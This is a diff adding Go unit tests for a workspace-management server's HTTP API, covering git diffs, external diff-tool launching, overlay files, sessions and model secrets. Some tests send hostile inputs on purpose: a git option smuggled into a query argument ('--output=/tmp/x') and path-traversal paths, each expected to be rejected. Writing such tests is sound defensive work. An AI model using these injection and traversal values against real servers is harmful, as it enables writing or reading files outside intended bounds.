+		if content, binary := server.getFileContent(ctx, wsPath, "small.txt", treeish); content != "hello\n" || binary {
+			t.Errorf("%s small.txt: got (%q, %v)", treeish, content, binary)
+		}
+		for _, name := range []string{"large.txt", "blob.bin"} {
+			if content, binary := server.getFileContent(ctx, wsPath, name, treeish); content != "" || !binary {
+				t.Errorf("%s %s: expected empty binary result, got (%d bytes, %v)", treeish, name, len(content), binary)
+			}
+		}
+		if content, binary := server.getFileContent(ctx, wsPath, "missing.txt", treeish); content != "" || binary {
+			t.Errorf("%s missing.txt: got (%q, %v)", treeish, content, binary)
+		}
+	}
+}
+
+func TestHandleDiffOptions(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not available")
+	}
+	server, _, st := newTestServer(t)
+
+	wsPath := t.TempDir()
+	os.WriteFile(filepath.Join(wsPath, "reformatted.go"), []byte("a\nb\n"), 0644)
+	os.WriteFile(filepath.Join(wsPath, "changed.go"), []byte("x\n"), 0644)
+	os.WriteFile(filepath.Join(wsPath, "mixed.go"), []byte("p\nq\n"), 0644)
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "main"},
+		{"add", "."},
+		{"-c", "user.name=Test", "-c", "user.email=test@test.com", "commit", "-q", "-m", "initial"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", wsPath}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	os.WriteFile(filepath.Join(wsPath, "reformatted.go"), []byte("a  \n\tb\n"), 0644)
+	os.WriteFile(filepath.Join(wsPath, "changed.go"), []byte("y\n"), 0644)
+	os.WriteFile(filepath.Join(wsPath, "mixed.go"), []byte("  p\nr\n"), 0644)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: wsPath})
+
+	diffFiles := func(query string) map[string]string {
+		t.Helper()
+		rr := httptest.NewRecorder()
+		server.handleDiff(rr, httptest.NewRequest(http.MethodGet, "/api/diff/repo-001"+query, nil))
+		if rr.Code != http.StatusOK {
+			t.Fatalf("GET %s: expected 200, got %d: %s", query, rr.Code, rr.Body.String())
+		}
+		var resp struct {
+			Files []struct {
+				NewPath string `json:"new_path"`
+				Patch   string `json:"patch"`
+			} `json:"files"`
+		}
+		if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+			t.Fatalf("decode: %v", err)
+		}
+		files := make(map[string]string)
+		for _, f := range resp.Files {
+			files[f.NewPath] = f.Patch
+		}
+		return files
+	}
+	paths := func(files map[string]string) []string {
+		var paths []string
+		for path := range files {
+			paths = append(paths, path)
+		}
+		sort.Strings(paths)
+		return paths
+	}
+
+	files := diffFiles("")
+	if got := paths(files); !slices.Equal(got, []string{"changed.go", "mixed.go", "reformatted.go"}) {
+		t.Errorf("default: files = %v", got)
+	}
+	if files["mixed.go"] != "" {
+		t.Errorf("default: expected no patch, got %q", files["mixed.go"])
+	}
+
+	files = diffFiles("?ignore_whitespace=true&algorithm=histogram")
+	if got := paths(files); !slices.Equal(got, []string{"changed.go", "mixed.go"}) {
+		t.Errorf("ignore_whitespace: files = %v, want changed.go and mixed.go", got)
+	}
+	// The shown hunks must honour the options too, not just the file list.
+	patch := files["mixed.go"]
+	if !strings.HasPrefix(patch, "@@") || !strings.Contains(patch, "+r\n") || strings.Contains(patch, "+  p") {
+		t.Errorf("ignore_whitespace: mixed.go patch = %q, want only the q -> r change", patch)
+	}
+
+	for _, query := range []string{"?algorithm=--output=/tmp/x", "?ignore_whitespace=maybe"} {
+		rr := httptest.NewRecorder()
+		server.handleDiff(rr, httptest.NewRequest(http.MethodGet, "/api/diff/repo-001"+query, nil))
+		if rr.Code != http.StatusBadRequest {
+			t.Errorf("GET %s: expected 400, got %d", query, rr.Code)
+		}
+	}
+}
+
+func TestHandleDiffExternal_IncludesNewFiles(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not available")
+	}
+	t.Setenv("TMPDIR", t.TempDir())
+	server, _, st := newTestServer(t)
+
+	wsPath := t.TempDir()
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "main"},
+		{"-c", "user.name=Test", "-c", "user.email=test@test.com", "commit", "-q", "--allow-empty", "-m", "initial"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", wsPath}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(wsPath, "new.txt"), []byte("brand new\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: wsPath})
+
+	logPath := filepath.Join(t.TempDir(), "difftool.log")
+	body := fmt.Sprintf(`{"command":"wc -c < {old_file} >> %s"}`, logPath)
+	rr := httptest.NewRecorder()
+	server.handleDiffExternal(rr, httptest.NewRequest(http.MethodPost, "/api/diff-external/repo-001", bytes.NewReader([]byte(body))))
+	if rr.Code != http.StatusOK || !bytes.Contains(rr.Body.Bytes(), []byte(`"success":true`)) {
+		t.Fatalf("expected untracked file to be opened, got %d %s", rr.Code, rr.Body.String())
+	}
+
+	// The tool runs in the background; the old side of a new file is empty.
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		data, _ := os.ReadFile(logPath)
+		if got := strings.TrimSpace(string(data)); got != "" {
+			if got != "0" {
+				t.Errorf("expected empty old file, wc reported %q", got)
+			}
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("diff tool was not launched")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func TestHandleHistory(t *testing.T) {
+	server, _, _ := newTestServer(t)
+
+	rr := httptest.NewRecorder()
+	server.handleHistory(rr, httptest.NewRequest(http.MethodGet, "/api/history", nil))
+	if rr.Code != http.StatusOK || strings.TrimSpace(rr.Body.String()) != "[]" {
+		t.Fatalf("expected empty history, got %d %s", rr.Code, rr.Body.String())
+	}
+
+	for _, query := range []string{"limit=-1", "limit=abc", "since=yesterday", "until=2024-01-01"} {
+		rr = httptest.NewRecorder()
+		server.handleHistory(rr, httptest.NewRequest(http.MethodGet, "/api/history?"+query, nil))
+		if rr.Code != http.StatusBadRequest {
+			t.Errorf("%s: expected 400, got %d", query, rr.Code)
+		}
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleHistory(rr, httptest.NewRequest(http.MethodPost, "/api/history", nil))
+	if rr.Code != http.StatusMethodNotAllowed {
+		t.Errorf("expected 405, got %d", rr.Code)
+	}
+}
+
+func TestHandleWorkspacePrompts(t *testing.T) {
+	server, cfg, st := newTestServer(t)
+	cfg.Sessions = &config.SessionsConfig{PromptHistorySize: 5}
+	st.AddWorkspace(state.Workspace{ID: "ws-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+	st.AddWorkspacePrompt("ws-001", state.PromptHistoryEntry{ID: "p1", Prompt: "first", Target: "promptable"}, 5)
+	st.AddWorkspacePrompt("ws-001", state.PromptHistoryEntry{ID: "p2", Prompt: "second", Target: "promptable"}, 5)
+
+	rr := httptest.NewRecorder()
+	server.handleLinearSync(rr, httptest.NewRequest(http.MethodGet, "/api/workspaces/ws-001/prompts", nil))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("expected 200, got %d %s", rr.Code, rr.Body.String())
+	}
+	var resp struct {
+		Enabled bool                       `json:"enabled"`
+		Prompts []state.PromptHistoryEntry `json:"prompts"`
+	}
+	if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	if !resp.Enabled || len(resp.Prompts) != 2 || resp.Prompts[0].ID != "p2" {
+		t.Fatalf("expected newest-first history, got %+v", resp)
+	}
+
+	for _, path := range []string{"/api/workspaces/missing/prompts/p1/rerun", "/api/workspaces/ws-001/prompts/nope/rerun", "/api/workspaces/ws-001/prompts/p1/bogus"} {
+		rr = httptest.NewRecorder()
+		server.handleLinearSync(rr, httptest.NewRequest(http.MethodPost, path, nil))
+		if rr.Code != http.StatusNotFound {
+			t.Errorf("%s: expected 404, got %d", path, rr.Code)
+		}
+	}
+
+	// Re-running spawns with the recorded prompt, and the target can be overridden
+	rr = httptest.NewRecorder()
+	server.handleLinearSync(rr, httptest.NewRequest(http.MethodPost, "/api/workspaces/ws-001/prompts/p1/rerun", strings.NewReader(`{"target":"command"}`)))
+	if rr.Code != http.StatusOK || !strings.Contains(rr.Body.String(), "prompt is not allowed for command targets") {
+		t.Errorf("expected the command target to reject the prompt, got %d %s", rr.Code, rr.Body.String())
+	}
+}
+
+func TestHandleOverlayFiles(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	server, cfg, _ := newTestServer(t)
+	cfg.Repos = []config.Repo{{Name: "myrepo", URL: "https://example.com/myrepo.git"}}
+
+	do := func(method, path, body string) *httptest.ResponseRecorder {
+		rr := httptest.NewRecorder()
+		server.handleOverlayFiles(rr, httptest.NewRequest(method, path, strings.NewReader(body)))
+		return rr
+	}
+
+	rr := do(http.MethodPut, "/api/overlays/myrepo/files/.claude/settings.json", `{"content":"{}"}`)
+	if rr.Code != http.StatusOK {
+		t.Fatalf("PUT: expected 200, got %d %s", rr.Code, rr.Body.String())
+	}
+	if rr = do(http.MethodPut, "/api/overlays/myrepo/files/.env", `{"content":"TOKEN=abc\n"}`); rr.Code != http.StatusOK {
+		t.Fatalf("PUT .env: expected 200, got %d %s", rr.Code, rr.Body.String())
+	}
+
+	rr = do(http.MethodGet, "/api/overlays/myrepo/files", "")
+	var list struct {
+		Files []string `json:"files"`
+	}
+	if err := json.NewDecoder(rr.Body).Decode(&list); err != nil {
+		t.Fatalf("failed to decode list: %v", err)
+	}
+	if want := []string{".claude/settings.json", ".env"}; !slices.Equal(list.Files, want) {
+		t.Errorf("files = %v, want %v", list.Files, want)
+	}
+
+	rr = do(http.MethodGet, "/api/overlays/myrepo/files/.env", "")
+	var file OverlayFileContent
+	if err := json.NewDecoder(rr.Body).Decode(&file); err != nil {
+		t.Fatalf("failed to decode file: %v", err)
+	}
+	if file.Content != "TOKEN=abc\n" {
+		t.Errorf("content = %q, want %q", file.Content, "TOKEN=abc\n")
+	}
+
+	tests := []struct {
+		method, path string
+		want         int
+	}{
+		{http.MethodGet, "/api/overlays/myrepo/files/missing", http.StatusNotFound},
+		{http.MethodGet, "/api/overlays/myrepo/files/../../config.json", http.StatusBadRequest},
+		{http.MethodPut, "/api/overlays/myrepo/files/../escape", http.StatusBadRequest},
+		{http.MethodGet, "/api/overlays/myrepo/files/.claude", http.StatusBadRequest},
+		{http.MethodGet, "/api/overlays/other/files", http.StatusNotFound},
+		{http.MethodDelete, "/api/overlays/myrepo/files/.env", http.StatusMethodNotAllowed},
+	}
+	for _, tt := range tests {
+		if rr := do(tt.method, tt.path, `{"content":"x"}`); rr.Code != tt.want {
+			t.Errorf("%s %s: expected %d, got %d", tt.method, tt.path, tt.want, rr.Code)
+		}
+	}
+}
+
+func TestHandleSessionMessage(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddSession(state.Session{ID: "blocked-1", WorkspaceID: "repo-001", Target: "command", Status: state.SessionStatusBlocked})
+
+	post := func(path, body string) *httptest.ResponseRecorder {
+		rr := httptest.NewRecorder()
+		server.handleDispose(rr, httptest.NewRequest(http.MethodPost, path, strings.NewReader(body)))
+		return rr
+	}
+
+	rr := post("/api/sessions/blocked-1/message", `{"message":"also update the docs"}`)
+	if rr.Code != http.StatusOK || !strings.Contains(rr.Body.String(), `"queued"`) {
+		t.Fatalf("expected queued, got %d %s", rr.Code, rr.Body.String())
+	}
+	if sess, _ := st.GetSession("blocked-1"); len(sess.QueuedMessages) != 1 {
+		t.Errorf("expected one queued message, got %v", sess.QueuedMessages)
+	}
+
+	if rr = post("/api/sessions/blocked-1/message", `{"message":"  "}`); rr.Code != http.StatusBadRequest {
+		t.Errorf("empty message: expected 400, got %d", rr.Code)
+	}
+	if rr = post("/api/sessions/missing/message", `{"message":"hi"}`); rr.Code != http.StatusNotFound {
+		t.Errorf("unknown session: expected 404, got %d", rr.Code)
+	}
+}
+
+func TestBuildSessionsResponseStatus(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+	st.AddSession(state.Session{ID: "repo-001-live", WorkspaceID: "repo-001", Target: "command", Pid: os.Getpid()})
+	st.AddSession(state.Session{ID: "repo-001-dead", WorkspaceID: "repo-001", Target: "command", Pid: 1 << 30})
+	st.AddSession(state.Session{ID: "repo-001-blocked", WorkspaceID: "repo-001", Target: "command", Pid: 1 << 30, Status: state.SessionStatusBlocked})
+	st.AddSession(state.Session{ID: "repo-001-remote", WorkspaceID: "repo-001", Target: "command", RemoteHostID: "host-1", Status: state.SessionStatusProvisioning})
+
+	want := map[string]string{
+		"repo-001-live":    state.SessionStatusRunning,
+		"repo-001-dead":    state.SessionStatusStopped,
+		"repo-001-blocked": state.SessionStatusBlocked,
+		"repo-001-remote":  state.SessionStatusProvisioning,
+	}
+	response, _ := server.buildSessionsResponse()
+	if len(response) != 1 || len(response[0].Sessions) != len(want) {
+		t.Fatalf("unexpected response: %+v", response)
+	}
+	for _, sess := range response[0].Sessions {
+		if sess.Status != want[sess.ID] {
+			t.Errorf("%s: status = %q, want %q", sess.ID, sess.Status, want[sess.ID])
+		}
+	}
+}
+
+func TestSessionsAttentionCount(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+	for id, nudge := range map[string]string{
+		"repo-001-input":   `{"state":"Needs Authorization","summary":"Proceed?"}`,
+		"repo-001-done":    `{"state":"Completed","summary":"Done"}`,
+		"repo-001-working": `{"state":"Working","summary":"Editing"}`,
+		"repo-001-quiet":   "",
+	} {
+		st.AddSession(state.Session{ID: id, WorkspaceID: "repo-001", Target: "command", Nudge: nudge})
+	}
+
+	if _, attention := server.buildSessionsResponse(); attention != 2 {
+		t.Errorf("attention count = %d, want 2", attention)
+	}
+	rr := httptest.NewRecorder()
+	server.handleSessions(rr, httptest.NewRequest(http.MethodGet, "/api/sessions", nil))
+	if got := rr.Header().Get("X-Attention-Count"); got != "2" {
+		t.Errorf("X-Attention-Count = %q, want 2", got)
+	}
+
+	// Cross-origin clients can only read the count if CORS exposes it
+	rr = httptest.NewRecorder()
+	server.withCORS(server.handleSessions)(rr, httptest.NewRequest(http.MethodGet, "/api/sessions", nil))
+	if got := rr.Header().Get("Access-Control-Expose-Headers"); !strings.Contains(got, "X-Attention-Count") {
+		t.Errorf("Access-Control-Expose-Headers = %q, want it to include X-Attention-Count", got)
+	}
+}
+
+func TestHandleDiffExternalClose(t *testing.T) {
+	server, _, st := newTestServer(t)
+	t.Cleanup(server.diffTools.CloseAll)
+
+	wsPath := t.TempDir()
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "main"},
+		{"-c", "user.name=Test", "-c", "user.email=test@test.com", "commit", "-q", "--allow-empty", "-m", "initial"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", wsPath}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(wsPath, "new.txt"), []byte("new\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	workspaceID := fmt.Sprintf("close-test-%d", os.Getpid())
+	st.AddWorkspace(state.Workspace{ID: workspaceID, Repo: "https://example.com/repo.git", Branch: "main", Path: wsPath})
+
+	rr := httptest.NewRecorder()
+	server.handleDiffExternal(rr, httptest.NewRequest(http.MethodPost, "/api/diff-external/"+workspaceID, strings.NewReader(`{"command":"sleep 30"}`)))
+	var launched DiffExternalResponse
+	json.NewDecoder(rr.Body).Decode(&launched)
+	if !launched.Success || server.diffTools.Running(workspaceID) != 1 {
+		t.Fatalf("launch: got %+v with %d running", launched, server.diffTools.Running(workspaceID))
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleDiffExternal(rr, httptest.NewRequest(http.MethodPost, "/api/diff-external/"+workspaceID+"/close", nil))
+	var closed DiffExternalCloseResponse
+	if err := json.NewDecoder(rr.Body).Decode(&closed); err != nil || rr.Code != http.StatusOK || closed.Closed != 1 {
+		t.Fatalf("close: got %d %+v (%v)", rr.Code, closed, err)
+	}
+	if server.diffTools.Running(workspaceID) != 0 {
+		t.Error("expected closed diff tool to be untracked")
+	}
+	if matches, _ := filepath.Glob(filepath.Join(os.TempDir(), "schmux-difftool-"+workspaceID+"-*")); len(matches) != 0 {
+		t.Errorf("expected temp dirs removed, found %v", matches)
+	}
+}
+
+func TestHandleDiffExternal_FileSelection(t *testing.T) {
+	server, _, st := newTestServer(t)
+
+	wsPath := t.TempDir()
+	for _, name := range []string{"a.go", "b.go", "README.md"} {
+		if err := os.WriteFile(filepath.Join(wsPath, name), []byte("old\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "main"},
+		{"add", "."},
+		{"-c", "user.name=Test", "-c", "user.email=test@test.com", "commit", "-q", "-m", "initial"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", wsPath}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	for _, name := range []string{"a.go", "b.go", "README.md"} {
+		if err := os.WriteFile(filepath.Join(wsPath, name), []byte("new\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: wsPath})
+
+	post := func(body string) (int, DiffExternalResponse) {
+		t.Helper()
+		rr := httptest.NewRecorder()
+		server.handleDiffExternal(rr, httptest.NewRequest(http.MethodPost, "/api/diff-external/repo-001", strings.NewReader(body)))
+		var resp DiffExternalResponse
+		json.NewDecoder(rr.Body).Decode(&resp)
+		return rr.Code, resp
+	}
+
+	if code, resp := post(`{"command":"true","files":["*.md"]}`); code != http.StatusOK || !resp.Success || resp.FileCount != 1 {
+		t.Errorf("glob filter: got %d %+v, want 1 file opened", code, resp)
+	}
+	if _, resp := post(`{"command":"true","files":["docs/**"]}`); resp.Success || resp.FileCount != 0 {
+		t.Errorf("non-matching filter: got %+v", resp)
+	}
+	if code, _ := post(`{"command":"true","files":["["]}`); code != http.StatusBadRequest {
+		t.Errorf("invalid pattern: got %d, want 400", code)
+	}
+
+	// Over max_files needs confirmation before anything is launched.
+	if _, resp := post(`{"command":"true","max_files":2}`); resp.Success || !resp.NeedsConfirm || resp.FileCount != 3 {
+		t.Errorf("max_files guard: got %+v", resp)
+	}
+	if _, resp := post(`{"command":"true","max_files":2,"confirm":true}`); !resp.Success || resp.FileCount != 3 {
+		t.Errorf("confirmed: got %+v", resp)
+	}
+
+	// Directory diff commands run once over trees of the selected files, without the guard.
+	logPath := filepath.Join(t.TempDir(), "dirdiff.log")
+	body := fmt.Sprintf(`{"command":"cd {new_dir} && ls >> %s && cat {old_dir}/a.go >> %s","files":["*.go"],"max_files":1}`, logPath, logPath)
+	if _, resp := post(body); !resp.Success || resp.NeedsConfirm || resp.FileCount != 2 {
+		t.Fatalf("dir diff: got %+v", resp)
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		data, _ := os.ReadFile(logPath)
+		if got := string(data); strings.Contains(got, "old") {
+			if got != "a.go\nb.go\nold\n" {
+				t.Errorf("dir diff saw %q", got)
+			}
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("dir diff tool was not launched")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func TestHandleModelsCacheInvalidatedBySecrets(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	server, cfg, _ := newTestServer(t)
+	cfg.RunTargets = append(cfg.RunTargets, config.RunTarget{Name: "claude", Type: config.RunTargetTypePromptable, Command: "claude", Source: config.RunTargetSourceDetected})
+	model, ok := detect.FindModel("kimi-thinking")
+	if !ok || len(model.RequiredSecrets) == 0 {
+		t.Fatal("kimi-thinking model with required secrets not found")
+	}
+	secrets := make(map[string]string)
+	for _, key := range model.RequiredSecrets {
+		secrets[key] = "secret"
+	}
+
+	configured := func() bool {
+		t.Helper()
+		rr := httptest.NewRecorder()
+		server.handleModels(rr, httptest.NewRequest(http.MethodGet, "/api/models", nil))
+		var resp struct {
+			Models []contracts.Model `json:"models"`
+		}
+		if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+			t.Fatal(err)
+		}
+		for _, m := range resp.Models {
+			if m.ID == model.ID {
+				return m.Configured
+			}
+		}
+		t.Fatalf("model %s not listed", model.ID)
+		return false
+	}
+
+	if configured() {
+		t.Fatal("model configured before any secrets were saved")
+	}
+
+	// Written behind the API's back: the cached list is still served
+	if err := config.SaveModelSecrets(model.ID, secrets); err != nil {
+		t.Fatal(err)
+	}
+	if configured() {
+		t.Error("cached model list was rebuilt without an invalidation")
+	}
+
+	body, _ := json.Marshal(map[string]any{"secrets": secrets})
+	rr := httptest.NewRecorder()
+	server.handleModel(rr, httptest.NewRequest(http.MethodPost, "/api/models/"+model.ID+"/secrets", bytes.NewReader(body)))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("saving secrets: %d %s", rr.Code, rr.Body.String())
+	}
+	if !configured() {
+		t.Error("model not configured after saving its secrets through the API")
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleModel(rr, httptest.NewRequest(http.MethodDelete, "/api/models/"+model.ID+"/secrets", nil))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("deleting secrets: %d %s", rr.Code, rr.Body.String())
+	}
+	if configured() {
+		t.Error("model still configured after deleting its secrets through the API")
+	}
+}
+
+func TestUnknownAPIPathReturnsJSONNotFound(t *testing.T) {
+	server, _, _ := newTestServer(t)
+	rr := httptest.NewRecorder()
+	server.handleApp(rr, httptest.NewRequest(http.MethodGet, "/api/no-such-endpoint", nil))
+	var resp ErrorResponse
+	if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil || rr.Code != http.StatusNotFound || resp.Error != "not found" {
+		t.Errorf("got %d %+v (decode err %v), want a JSON 404", rr.Code, resp, err)
+	}
+}